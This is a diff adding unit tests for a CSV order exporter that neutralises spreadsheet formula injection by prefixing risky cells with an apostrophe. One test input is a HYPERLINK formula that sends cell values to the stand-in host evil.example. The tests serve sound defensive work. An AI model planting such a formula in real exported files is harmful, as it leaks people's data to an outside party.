@@ -52,4 +52,28 @@ describe('ordersCsv', () => {
     const csv = ordersCsv([order({ service: { id: 3, name: 'Unlock, "fast"\nnow' } })], translate);
     expect(csv.split('\r\n')[1]).toContain('"Unlock, ""fast""\nnow"');
   });
+
+  it.each([
+    ['=', '=HYPERLINK("http://evil.example/?d="&E2&F2,"Click")'],
+    ['+', '+1+1'],
+    ['-', '-2+3'],
+    ['@', '@SUM(A1:A2)'],
+    ['a tab', '\t=1+1'],
+    ['a carriage return', '\r=1+1'],
+  ])('writes a cell that begins with %s as text, with a leading apostrophe', (_, hostile) => {
+    const csv = ordersCsv(
+      [order({ user: { id: 5, name: hostile }, service: { id: 3, name: hostile }, code: hostile })],
+      translate,
+    );
+    const line = csv.split('\r\n').slice(1).join('\r\n');
+    expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+    expect(line).toContain(`'${hostile.replace(/"/g, '""')}`);
+  });
+
+  it('leaves ordinary text and numbers as they are', () => {
+    const csv = ordersCsv([order({ user: { id: 5, name: 'Ana-María' }, price: 5 })], translate);
+    expect(csv.split('\r\n')[1]).toMatch(
+      /^1,Pending,Unlock,Ana-María,356938035643809,No Contestado,5\.00,/,
+    );
+  });
 });
